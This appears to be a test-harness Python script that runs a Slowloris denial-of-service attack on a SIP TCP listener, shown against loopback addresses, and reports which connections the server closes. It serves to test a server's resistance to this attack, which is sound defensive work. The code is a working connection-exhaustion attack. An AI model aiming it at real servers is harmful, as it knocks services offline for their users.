#!/usr/bin/env python3
"""Slowloris against a SIP TCP listener (interop/attack.sh, check 6).

    slowloris.py --srcs 127.0.5.11,127.0.5.12 --dst 127.0.5.1:5060 \\
        --conns 2000 --seconds 10

Opens --conns TCP connections to --dst, round-robin from the --srcs
addresses (in batches of 200 every 50 ms, so that the listen backlog is
not what refuses them), and once a second sends one more byte of an
OPTIONS request on every connection still open: a message that never
ends. A connection the server closes (FIN or RST) is counted with its
lifetime. Prints one status line a second:

    t=3 connected=2000 open=128 closed=1872

then, after --seconds, a summary of "key=value" pairs: connected, closed
(by the server), closed_fast (within 1 s of connecting: refused at
accept), closed_slow (after 1 s or more: cut while dribbling), open (still
open at the end), bytes (sent in all), and lifetime_max (seconds). Every
socket is closed at exit; every wait is bounded."""

import argparse
import errno
import selectors
import socket
import sys
import time

MSG = b"OPTIONS sip:127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/TCP 127.0.0.1:5060;branch=z9hG4bKslow\r\n" * 100


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--srcs", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--conns", type=int, default=2000)
    p.add_argument("--seconds", type=float, default=10.0)
    a = p.parse_args()
    srcs = a.srcs.split(",")
    host, port = a.dst.rsplit(":", 1)
    dst = (host, int(port))
    sel = selectors.DefaultSelector()
    conns = {}  # fd -> [sock, opened_at, bytes_sent, closed_at]
    closed = []  # lifetimes
    connected = 0
    refused = 0
    t0 = time.monotonic()
    end = t0 + a.seconds

    def close(fd, now):
        c = conns.pop(fd)
        try:
            sel.unregister(c[0])
        except (KeyError, ValueError):
            pass
        c[0].close()
        closed.append(now - c[1])

    def poll(timeout):
        now = time.monotonic()
        for key, _ in sel.select(timeout):
            fd = key.fd
            if fd not in conns:
                continue
            try:
                data = key.fileobj.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                close(fd, now)

    def dribble(now):
        sent = 0
        for fd, c in list(conns.items()):
            try:
                n = c[0].send(MSG[c[2] : c[2] + 1])
                c[2] += n
                sent += n
            except BlockingIOError:
                pass
            except OSError as e:
                if e.errno in (errno.ENOTCONN, errno.EAGAIN):
                    continue
                close(fd, now)
        return sent

    # Open them, a batch every 50 ms, each starting its dribble at once.
    i = 0
    while i < a.conns and time.monotonic() < end:
        for _ in range(min(200, a.conns - i)):
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            try:
                s.bind((srcs[i % len(srcs)], 0))
                err = s.connect_ex(dst)
            except OSError as e:
                err = e.errno
            i += 1
            if err not in (0, errno.EINPROGRESS):
                refused += 1
                s.close()
                continue
            connected += 1
            conns[s.fileno()] = [s, time.monotonic(), 0, None]
            sel.register(s, selectors.EVENT_READ)
        poll(0.05)
    total = 0
    tick = time.monotonic()
    last_status = 0
    while True:
        now = time.monotonic()
        if now >= tick:
            total += dribble(now)
            tick += 1.0
        if int(now - t0) > last_status:
            last_status = int(now - t0)
            print(f"t={last_status} connected={connected} open={len(conns)} closed={len(closed)}", flush=True)
        if now >= end:
            break
        poll(max(0.0, min(tick, end) - now))
    fast = sum(1 for t in closed if t < 1.0)
    print(
        f"connected={connected} refused_connect={refused} closed={len(closed)} closed_fast={fast} "
        f"closed_slow={len(closed) - fast} open={len(conns)} bytes={total} "
        f"lifetime_max={max(closed, default=0):.1f}",
        flush=True,
    )
    for c in conns.values():
        c[0].close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
